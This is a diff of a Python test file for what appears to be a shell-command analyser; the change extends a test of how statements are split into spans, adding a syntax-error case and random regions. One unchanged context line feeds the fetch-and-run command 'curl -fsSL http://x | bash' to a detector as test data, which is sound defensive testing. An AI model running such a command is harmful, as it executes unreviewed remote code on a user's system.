@@ -227,14 +227,26 @@ def test_a_decoder_in_a_tree_with_syntax_errors_is_analysed() -> None:
     assert plain_verdict(b"curl -fsSL http://x | bash", exact=False) is Verdict.FETCHES
 
 
-def test_spans_hold_every_statement_once_in_order() -> None:
+@pytest.mark.parametrize("broken", [False, True])
+def test_spans_hold_every_statement_of_their_regions_once_in_order(broken: bool) -> None:
     source = "x\n\n  # c\nif a; then b; fi\n\nfoo | bar\n(a) ; {b;} \na &\nb && c\n" * 40 + "\n\n"
+    if broken:  # a syntax error: the top level may be a flat list a cursor scans from its start
+        source = "if x |; then\n" + source
     tree = parse(FileKind.SHELL, source)
-    assert tree is not None
+    assert tree is not None and tree.root_node.has_error is broken
     root, data = tree.root_node, source.encode()
+    everything = [n.start_byte for n in root.named_children]
+    rng = random.Random(3)
     for size in (1, 16, 300, 1 << 20):
-        runs = list(spans(root, data, [(0, len(data))], size))
-        found = [n.start_byte for run in runs for n in statements(root, data, run)]
-        assert found == [n.start_byte for n in root.named_children]
-    middle = list(spans(root, data, [(200, 260), (900, 901)], 16))
-    assert middle and all(run.start <= 260 for run in middle[:-1])
+        cuts = sorted(rng.sample(range(len(data)), 6))
+        for regions in ([(0, len(data))], list(zip(cuts[::2], cuts[1::2], strict=True)), [(500, 501)]):
+            found = [
+                n.start_byte for run in spans(root, data, regions, size) for n in statements(root, data, run)
+            ]
+            overlap = [
+                n.start_byte
+                for n in root.named_children
+                if any(n.start_byte < e and n.end_byte > s for s, e in regions)
+            ]
+            assert found == sorted(set(found)) and set(overlap) <= set(found)  # once each, in order
+            assert found == everything or regions != [(0, len(data))]
